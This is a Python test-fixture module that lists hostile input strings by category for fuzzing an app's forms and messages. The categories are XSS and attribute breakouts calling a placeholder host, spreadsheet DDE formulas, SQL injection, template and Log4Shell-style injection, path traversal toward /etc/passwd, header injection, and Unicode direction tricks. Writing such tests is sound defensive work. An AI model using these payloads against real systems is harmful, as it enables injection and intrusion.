"""Hostile strings: what somebody might write in place of a name or a message, by what it is meant to break.

Each category is made of a few hand-written strings and of what a seeded draw puts around and between them, so that the
same strings are tried each time and no two are alike. `BEACON` is the host that anything that runs would call, and
`RAN` the property of a page that it would set.
"""

# ruff: noqa: E501 (rows of strings, which wrapping would only hide)

import itertools
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from random import Random

BEACON = "https://beacon.invalid"
RAN = "hostileRan"
_JS = f"window.{RAN}=1"
_FETCH = f"fetch('{BEACON}')"

HTML = (
    f"<script>{_JS}</script>",
    f"<script src={BEACON}/x.js></script>",
    f"<SCRIPT>{_JS}</SCRIPT>",
    f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    f"<img src=x onerror={_JS}>",
    f'<img src="{BEACON}/p.png">',
    f"<svg onload={_JS}>",
    f"<svg><script>{_JS}</script></svg>",
    f"<svg/onload={_JS}//",
    f"<iframe src=javascript:{_JS}></iframe>",
    f"<iframe srcdoc='<script>{_JS}</script>'></iframe>",
    f"<object data={BEACON}></object>",
    f"<embed src={BEACON}>",
    f"<link rel=stylesheet href={BEACON}/x.css>",
    f"<style>*{{background:url({BEACON})}}</style>",
    f"<meta http-equiv=refresh content='0;url={BEACON}'>",
    f"<base href={BEACON}/>",
    f"<form action={BEACON}><button>go</button></form>",
    f"<input autofocus onfocus={_JS}>",
    f"<details open ontoggle={_JS}>",
    f"<video><source onerror={_JS}></video>",
    f"<body onload={_JS}>",
    f"<math><mtext></p><img src=x onerror={_JS}>",
    f"<template><script>{_JS}</script></template>",
    f"<a href='javascript:{_JS}'>here</a>",
    f"<a href=data:text/html,<script>{_JS}</script>>here</a>",
    "<!--", "-->", "<![CDATA[", "]]>", "<?php echo 1 ?>", "<plaintext>", "<noscript>", "<xmp>",
    "<b>bold", "</b>", "</td></tr></table>", "</main></body></html>", "<br>", "<hr/>", "<h1>", "<marquee>hi</marquee>",
    "&lt;script&gt;", "&#60;script&#62;", "&#x3c;img&#x3e;", "&amp;amp;", "&nbsp;&zwj;", "&unknown;", "&", "<", ">",
    "<3", "a < b > c", "1<2 && 3>2", "<>", "</>", "< script >", "<\tscript>", "<script/x>", "<div hx-get=/console/staff hx-trigger=load>",
    f"<div hx-on:click=\"{_JS}\">", "<button hx-post=/console/sign-out hx-trigger=load>x</button>",
)  # fmt: skip
ATTRIBUTES = (
    '"', "'", "`", '">', "'>", "`>", '"/>', '" x="', "' x='", '"">', "''>",
    f'" onmouseover="{_JS}', f"' onmouseover='{_JS}", f'" autofocus onfocus="{_JS}" x="', f'" style="background:url({BEACON})',
    f'"><script>{_JS}</script>', f"'><script>{_JS}</script>", f'"><img src=x onerror={_JS}>', f"'><svg onload={_JS}>",
    f"javascript:{_JS}", f"JaVaScRiPt:{_JS}", f"java\tscript:{_JS}", f" javascript:{_JS}", f"data:text/html,{_JS}",
    f"vbscript:{_JS}", f"//{BEACON[8:]}", f"\\\\{BEACON[8:]}", f"{BEACON}", "?x=1&y=2#z", "#", "%22%3E%3Cscript%3E",
    f"</textarea><script>{_JS}</script>", f"</title><script>{_JS}</script>", f"</option></select><img src=x onerror={_JS}>",
    f"</script><script>{_JS}</script>", f"'-{_JS}-'", f'"-{_JS}-"', f"\\'-{_JS}//", f"${{{_JS}}}", f"`${{{_FETCH}}}`",
    f'{{"x":"</script><script>{_JS}</script>"}}',
)  # fmt: skip
FORMULAS = (
    "=1+1", "=SUM(A1:A9)", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"A0\")",
    f'=HYPERLINK("{BEACON}?x="&A1,"click")', f'=IMPORTXML("{BEACON}","//a")', f'=WEBSERVICE("{BEACON}")',
    f'=IMAGE("{BEACON}/p.png")', "=1+1|cmd", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1",
    "\ufeff=1+1", "'=1+1", '"=1+1', '";=1+1', ",=1+1", ";=1+1", "|=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "−1+1",
    "=", "+", "-", "@", "=-+@", "+919447000001", "-5", "%0A=1+1", "x\r\n=1+1", 'x"\r\n"=1+1', "=A1\x00", "\x00=A1",
    "=RTD(\"a\",,\"b\")", "=CALL(\"x\",\"y\")", "=EXEC(\"calc\")", "{=1+1}", "=@x", "@=1", "+-1", "−−1", "=\u202e1+1",
)  # fmt: skip
MARKUP = (
    "*bold*", "_italic_", "~gone~", "`code`", "```block```", "*", "**", "__x__", "~~", "*a*b*c*", "*a _b* c_", "_*~`x`~*_",
    "> quote", "- item", "1. item", "* item", "*\nbold*", "*bold *", " *bold*", "a*b*c", "snake_case_name", "2*3*4",
    "*അമ്മ*", "_അമ്മ_", "~അമ്മ~", "`അമ്മ`", "<b>bold</b>", "<i>it</i>", "<code>x</code>", "<pre>x</pre>", "<tg-spoiler>x</tg-spoiler>",
    "<a href='tg://user?id=1'>me</a>", "<blockquote expandable>x</blockquote>", "<tg-emoji emoji-id=1>x</tg-emoji>",
    f"[here]({BEACON})", f"![x]({BEACON}/p.png)", f"<{BEACON}>", "# head", "||spoiler||", "@wnh_bot", "/stop", "/start staff_K7PQ3XWM",
    "tg://resolve?domain=x", "\\*x\\*", "*\u200bx*", "*x*\u200b", "**bold** _it_ `c` ~s~", "*_~`", "`*`_`~", "'''", "==x==",
)  # fmt: skip
DIRECTIONS = (
    "\u202eevil\u202c", "\u202dx\u202c", "\u2066x\u2069", "\u2067x\u2069", "\u2068x\u2069", "\u202a\u202b\u202e", "\u2069\u2069\u2069",
    "\u200e\u200f", "\u061cx", "abc\u202egnp.exe", "\u202e>tpircs<", "\u200b", "\u200b\u200c\u200d", "\u2060x\u2060", "\ufeffx",
    "\u00adx\u00ad", "a\u034fb", "\u180ex", "\u3164", "\u115f\u1160", "\uffa0", "\u2800", "\u00a0", "\u2003\u2009", "\u2028x\u2029",
    "x\u0085y", "x\u000by", "x\u000cy", "\U000e0041\U000e0042\U000e007f", "\U000e0001x", "🏴\U000e0067\U000e0062\U000e007f",
    "\ufff9a\ufffab\ufffb", "\ufffc", "\ufffd", "\uffff", "\ufdd0", "\ue000", "\U000fffff", "ശ്രീ\u200dx", "ക്\u200c", "\u0d4d", "\u0d3e",
)  # fmt: skip
BROKEN = (
    "\x00", "a\x00b", "\x00<script>", "\ud800", "\udfff", "a\ud83db", "\udc00\ud800", "x\ud800", "\x01\x02\x03", "\x07bell",
    "\x08\x08\x08", "\x7f", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J", "\x9b31m", "\x1b]8;;https://beacon.invalid\x1b\\x",
    "\x1bP+q\x1b\\", "\r", "\n", "\r\n", "\t", "a\r\nSet-Cookie: x=1", "a\r\n\r\n<html>", "a\nLocation: https://beacon.invalid",
    "a%0d%0aSet-Cookie:x=1", "a\nBcc: x@beacon.invalid", "a\x0bb", "a\x1fb", "\x80\x81", "a\u2028b", "\ud83d\ude00\ud83d",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{{7*'7'}}", "{% raw %}", "{% endraw %}{{ 1 }}", "{# x #}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{%- for x in y -%}",
    "{{ visit.session }}", "{{ csrf }}", "${7*7}", "#{7*7}", "*{7*7}", "@{7*7}", "<%= 7*7 %>", "<% x %>", "{{{x}}}", "{{&x}}", "{{> x}}",
    "{0}", "{0.__class__}", "{name}", "{name!r}", "{:>9999999}", "{}", "%s", "%d", "%(name)s", "%n%n%n", "%99999999d", "{ $x }", "{ $name }",
    "{ -term }", "{ message }", "{ NUMBER(1) }", '{ "x" }', "{ $x ->\n [a] b\n *[c] d\n}", "x = { y }", "\nstaff-linked = x", "{name|x}",
    "{centre}", "{name|{centre}}", "$(id)", "`id`", "; id", "| id", "&& id", "$((1+1))", "${IFS}", "~root", "!!python/object:os.system",
    "[[7*7]]", "[% x %]", "{@x}", "{if x}", "<#assign x=1>", "#set($x=1)", "#{x}", "$!{x}", "{{constructor.constructor('x')()}}",
    "{{1}}", "{{2}}", "{{1}}{{2}}", "__import__('os')", "lambda: 0", "${jndi:ldap://beacon.invalid/x}", "%{(#x=1)}",
)  # fmt: skip
DATABASE = (
    "' OR 1=1 --", "'; DROP TABLE people; --", '"; DROP TABLE people; --', "' UNION SELECT 1 --", "\\'; --", "1; SELECT 1", "')) OR 1=1",
    "%' OR '%'='", "%", "_", "%%", "__", "\\%", "\\", "\\\\", "$$x$$", "$1", ":name", ":x::text", "?", "x' AND 'a'='a", "/* x */", "-- x",
    "'||pg_sleep(1)||'", "{1,2}", "[1,2)", "(1)", "NULL", "null", "None", "undefined", "NaN", "true", "0", "-1", "1e999", "0x41",
    "E'\\x41'", "U&'\\0041'", "ROW(1)", "ARRAY[1]", "\\copy x", "\\x41", "''", "''''",
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\con", "file:///etc/passwd", "....//....//", "%2e%2e%2f", "..%c0%af", "a/b",
    "a\\b", ".", "..", "con", "nul.txt", "x.html", "x.php%00.png", "-rf", "--help", "~", ".htaccess", "a b", " a ", "a;b", "a&b=c", "a#b", "a?b",
)  # fmt: skip
JSON = (
    '"}', '","x":"y', '\\"', '\\u0000', "\\ud800", '{"text": "x"}', '["x"]', '{"__proto__": {"x": 1}}', "__proto__", "constructor", "toString",
    '"\\', "\\n", "\\x", "]]}", "}}", "/*x*/", "//x", "\u2028", "</script>", "<!--<script>", '{"$ne": null}', "[object Object]", "1,2", "'x':",
)  # fmt: skip
LOOKALIKES = (
    "аdmin", "ａｄｍｉｎ", "𝐚𝐝𝐦𝐢𝐧", "Ⓐdmin", "ɑdmin", "раураl", "ℌ𝔢𝔩𝔭", "ＳＴＯＰ", "ⅠⅡⅢ", "①②③", "൧൨൩", "१२३", "٣٤٥", "ﷺ", "﷽", "ǆ", "ﬁ", "ß", "İ", "ı",
    "K", "Å", "ʼn", "ΐ", "ﾟ", "〱", "„x“", "‹x›", "«x»", "，", "；", "＜script＞", "〈b〉", "﹤b﹥", "＂", "＇", "‘x’", "“x”", "´x`",
)  # fmt: skip
EMOJI = (
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "👍🏿",
    "🇮🇳",
    "🇮🇳🇮🇳🇮",
    "1️⃣",
    "❤️‍🔥",
    "🧑🏽‍🤝‍🧑🏿",
    "🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "☺︎",
    "☺️",
    "🫱🏻‍🫲🏿",
    "👩‍❤️‍💋‍👨",
    "©️",
    "㊗️",
    "🀄",
    "🆗",
    "‼️",
    "🅰️",
    "\u200d",
    "\ufe0f",
    "🏻",
)
_LONG = ("a" * 300, "ക" * 200, "W" * 64, "<" * 120, "&" * 100, "'" * 100, "*" * 90, "\u202e" * 50, "😀" * 60, "e" + "\u0301" * 200,
         "Z̷̧̢̛̫̗" * 20, "ക" + "\u0d4d" * 60, "a " * 120, "\n" * 80, "a\n" * 80, "1" * 150, "=" * 50, "{{" * 60, "👨‍👩‍👧‍👦" * 12, "‌ക‌" * 30)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Hostile:
    """A string, and what it is meant to break."""

    category: str
    text: str


WRITTEN: Mapping[str, tuple[str, ...]] = {
    "html": HTML,
    "attributes": ATTRIBUTES,
    "formulas": FORMULAS,
    "markup": MARKUP,
    "directions": DIRECTIONS,
    "broken": BROKEN,
    "templates": TEMPLATES,
    "database": DATABASE,
    "paths": PATHS,
    "json": JSON,
    "lookalikes": LOOKALIKES,
    "emoji": EMOJI,
    "long": _LONG,
}
DRAWN = 120
"""So many are put together of others."""


def _all() -> Iterator[Hostile]:
    for category, texts in WRITTEN.items():
        yield from (Hostile(category, text) for text in texts)
    yield from itertools.islice(_mixed(Random(5)), DRAWN)


def _mixed(random: Random) -> Iterator[Hostile]:
    """Parts of several categories in one, with words around them."""
    parts = [text for texts in WRITTEN.values() for text in texts if 0 < len(text) < 60]
    while True:
        between = random.choice(("", " ", "\n", "അമ്മ", '"', "'"))
        yield Hostile("mixed", between.join(random.sample(parts, random.randint(2, 3))))


HOSTILE: tuple[Hostile, ...] = tuple({one.text: one for one in _all()}.values())
TEXTS: tuple[str, ...] = tuple(one.text for one in HOSTILE)


def keepable(text: str) -> str:
    """The string as far as it can come in through a form or a message: UTF-8 has no half of a surrogate pair, and no
    channel nor PostgreSQL a NUL."""
    return text.replace("\0", "").encode(errors="replace").decode()
